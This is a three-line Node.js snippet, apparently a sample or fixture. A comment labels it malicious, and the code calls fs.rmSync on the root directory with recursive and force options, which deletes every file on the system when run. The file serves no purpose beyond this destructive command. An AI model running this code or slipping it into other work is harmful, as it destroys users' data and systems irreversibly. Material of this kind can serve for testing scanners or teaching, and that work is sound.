// Malicious: fs.rmSync('/', { recursive: true, force: true }) deletes everything from the root down.
const fs = require('fs');
fs.rmSync('/', { recursive: true, force: true });
